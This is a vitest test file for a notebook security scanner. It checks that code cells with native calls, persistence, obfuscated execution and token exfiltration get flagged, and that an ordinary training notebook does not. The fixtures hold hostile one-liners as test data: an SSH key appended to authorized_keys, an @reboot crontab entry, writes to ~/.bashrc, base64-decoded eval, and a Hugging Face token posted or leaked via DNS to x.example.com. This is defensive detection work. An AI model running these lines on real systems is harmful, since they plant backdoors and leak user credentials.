import { beforeAll, describe, expect, it } from 'vitest';
import { codeCell, notebook } from '../../../src/formats/notebook/builder.js';
import { initPython } from '../../../src/formats/python/runtime.js';
import { scanNotebookDoc, summary } from '../../formats/python/helpers.js';

beforeAll(initPython);

const b64 = (s: string): string => Buffer.from(s).toString('base64');

/** Notebooks go through the same Python analysis: each new sink and source, seen in a cell. */
describe('new python sinks in notebooks', () => {
  it.each([
    [
      'libc system through ctypes',
      ['import ctypes\n', "libc = ctypes.CDLL('libc.so.6')\nlibc.system(b'id')\n"],
      'python/native-code critical notebook.ipynb!/cells/1',
    ],
    ['a library loaded from /tmp', ['import ctypes\n', "ctypes.cdll.LoadLibrary('/tmp/x/libz.so')\n"], 'python/native-code medium notebook.ipynb!/cells/1'],
    ['PyRun_SimpleString', ['import ctypes\n', "ctypes.pythonapi.PyRun_SimpleString(b'print(1)')\n"], 'python/native-code critical notebook.ipynb!/cells/1'],
    [
      '~/.bashrc appended from Python',
      ['import os\n', "open(os.path.expanduser('~/.bashrc'), 'a').write(line)\n"],
      'python/persistence high notebook.ipynb!/cells/1',
    ],
    ['authorized_keys from a ! line', ['x = 1\n', '!echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys\n'], 'python/persistence high notebook.ipynb!/cells/1'],
    [
      'a crontab from a %%bash cell',
      ['x = 1\n', '%%bash\n(crontab -l; echo "@reboot sh /tmp/x") | crontab -\n'],
      'python/persistence high notebook.ipynb!/cells/1',
    ],
    [
      'a .pth in site-packages',
      ['import site\n', "open(site.getsitepackages()[0] + '/x.pth', 'w').write(code)\n"],
      'python/persistence high notebook.ipynb!/cells/1',
    ],
    [
      'run_cell of decoded code through a held shell',
      ['import base64\nip = get_ipython()\n', `ip.run_cell(base64.b64decode('${b64('print(1)')}').decode())\n`],
      'python/dynamic-exec critical notebook.ipynb!/cells/1',
    ],
    [
      'a ! line evals a variable a previous ! line decoded',
      ['x = 1\n', '!L=$(echo aWQ= | base64 -d)\n!eval "$L"\n'],
      'python/dynamic-exec critical notebook.ipynb!/cells/1',
    ],
    [
      'the Hub token posted',
      ['import requests\nfrom huggingface_hub import get_token\n', "requests.post('https://x.example.com', data=get_token())\n"],
      'python/credential-exfiltration high notebook.ipynb!/cells/1',
    ],
    [
      'a secret in a DNS name',
      ['import os, socket\n', "socket.getaddrinfo(os.environ['HF_TOKEN'] + '.x.example.com', 53)\n"],
      'python/credential-exfiltration medium notebook.ipynb!/cells/1',
    ],
    [
      'os.system held in an attribute across cells',
      ['import os, base64\nclass R:\n    def __init__(self):\n        self.run = os.system\n', `R().run(base64.b64decode('${b64('id')}').decode())\n`],
      'python/dynamic-exec critical notebook.ipynb!/cells/1',
    ],
  ])('%s', (_name, cells, expected) => {
    const { findings } = scanNotebookDoc(notebook(cells.map((c) => codeCell(c))));
    expect(summary(findings)).toEqual([expected]);
  });

  it('an ordinary training notebook stays clean', () => {
    const cells = [
      '!pip install -q transformers datasets\n%matplotlib inline\n',
      "import ctypes, ctypes.util, os, requests, torch\ncuda = ctypes.CDLL(ctypes.util.find_library('cudart'))\n",
      "cfg = open(os.path.expanduser('~/.cache/huggingface/hub/version.txt')).read()\nr = requests.get('https://example.com/data.csv')\nopen('data.csv', 'wb').write(r.content)\n",
      "for epoch in range(3):\n    torch.save(model.state_dict(), os.path.join('ckpt', f'epoch{epoch}.pth'))\n",
      "get_ipython().run_line_magic('time', 'train()')\n",
    ];
    const { findings } = scanNotebookDoc(notebook(cells.map((c) => codeCell(c))));
    expect(summary(findings)).toEqual([]);
  });
});
